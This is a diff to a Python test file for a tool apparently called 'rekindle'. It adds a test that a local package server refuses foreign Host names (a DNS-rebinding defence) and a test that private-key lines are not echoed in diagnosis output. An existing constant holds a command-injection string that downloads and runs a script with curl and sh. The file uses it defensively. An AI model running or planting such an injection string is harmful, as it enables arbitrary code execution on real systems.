@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import shlex
 from collections.abc import Sequence
+from http.client import HTTPConnection
 from pathlib import Path
 
 import pytest
@@ -16,12 +17,14 @@ from rekindle.core import files, paths, run
 from rekindle.core.command import Shell
 from rekindle.core.errors import BadInput, NotFound
 from rekindle.diagnose import fix
+from rekindle.diagnose import report as diagnose_report
 from rekindle.diagnose.diagnosis import diagnose_text
 from rekindle.fleet import matrix_file
 from rekindle.install import installer
 from rekindle.knowledge.logs.signatures import causes
 from rekindle.model.environment import Environment
 from rekindle.web import report
+from rekindle.wheels.shelf import serve
 
 EVIL = "/x; curl -o y http:/e/y; sh y"
 
@@ -160,3 +163,23 @@ def test_nothing_behind_a_junction_is_removed_with_a_build(tmp_path: Path, monke
     monkeypatch.setattr(Path, "is_symlink", lambda _: False)
     tidy.remove(tmp_path / "b")
     assert (tmp_path / "mine" / "precious").exists() and not (tmp_path / "b").exists()
+
+
+@pytest.mark.parametrize(("name", "status"), [("127.0.0.1", 200), ("localhost:1", 200), ("evil.example", 421)])
+def test_a_shelf_of_this_computer_answers_to_its_names_only(tmp_path: Path, name: str, status: int) -> None:
+    """A stranger's page in the browser here comes by a name of its own that it made lead to 127.0.0.1."""
+    (tmp_path / "simple").mkdir()
+    (tmp_path / "simple" / "index.html").touch()
+    with serve.server(tmp_path, "127.0.0.1", 0) as address:
+        connection = HTTPConnection(address.removeprefix("http://"), timeout=10)
+        connection.request("GET", "/simple/", headers={"Host": name})
+        assert connection.getresponse().status == status
+        connection.close()
+
+
+@pytest.mark.parametrize("end", ["", "-----END RSA PRIVATE KEY-----\nerror: it failed\n"])
+def test_the_lines_of_a_key_are_not_quoted_one_by_one(end: str) -> None:
+    body = "".join(f"MIIEpAIBAAKCAQEAabcdEFGH0123456789+/abcdEFGH0123456789+/{number:04}\n" for number in range(30))
+    answer = diagnose_text(f"begun\n-----BEGIN RSA PRIVATE KEY-----\n{body}{end}")
+    assert "MIIEpAIB" not in answer.to_json()
+    assert "MIIEpAIB" not in diagnose_report.text(answer, everything=True)
